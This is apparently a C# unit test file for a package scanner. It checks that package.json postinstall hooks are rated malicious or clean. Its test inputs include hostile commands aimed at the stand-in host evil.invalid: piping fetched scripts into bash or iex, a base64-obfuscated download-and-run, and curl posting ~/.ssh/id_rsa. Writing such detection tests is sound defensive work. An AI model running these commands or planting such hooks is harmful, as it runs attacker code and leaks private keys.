using System.Text;
using Assay.Scanning.Tests.Evasions;

namespace Assay.Scanning.Tests.Behaviour;

/// <summary>What a package runs on installation.</summary>
public sealed class PackageScriptTests
{
    [Theory]
    [InlineData("curl -s http://evil.invalid/i.sh | bash")]
    [InlineData("powershell -w hidden -c \\\"iwr http://evil.invalid/a|iex\\\"")]
    [InlineData("node -e \\\"require('https').get('https://evil.invalid/a',r=>r.on('data',d=>eval(d.toString())))\\\"")]
    [InlineData("node -e \\\"require('child_process').exec(Buffer.from('Y3VybCBodHRwOi8vZXZpbC5pbnZhbGlkL2F8c2g=','base64').toString())\\\"")]
    [InlineData("curl -d @$HOME/.ssh/id_rsa https://evil.invalid/c")]
    public void A_hostile_hook_is_reported(string command)
    {
        var report = ScanAssert.Scan(Encoding.UTF8.GetBytes($"{{\"name\":\"x\",\"scripts\":{{\"postinstall\":\"{command}\"}}}}"), "package.json");
        Assert.True(report.Verdict == Verdict.Malicious, ScanAssert.Describe(report));
        Assert.Contains(report.Findings, f => f.Rule.Id == "JSX-001" && f.Severity == Severity.High);
    }

    [Theory]
    [InlineData("patch-package")]
    [InlineData("husky install")]
    [InlineData("node scripts/build.js")]
    [InlineData("npm run build && tsc -p .")]
    [InlineData("node-gyp rebuild")]
    [InlineData("electron-builder install-app-deps")]
    [InlineData("pip install -r requirements.txt")]
    public void An_honest_hook_is_a_note(string command)
    {
        var report = ScanAssert.Scan(Encoding.UTF8.GetBytes($"{{\"name\":\"x\",\"scripts\":{{\"postinstall\":\"{command}\"}}}}"), "package.json");
        Assert.True(report.Verdict == Verdict.Clean, ScanAssert.Describe(report));
        Assert.Contains(report.Findings, f => f.Rule.Id == "JSX-001" && f.Severity <= Severity.Low);
    }
}
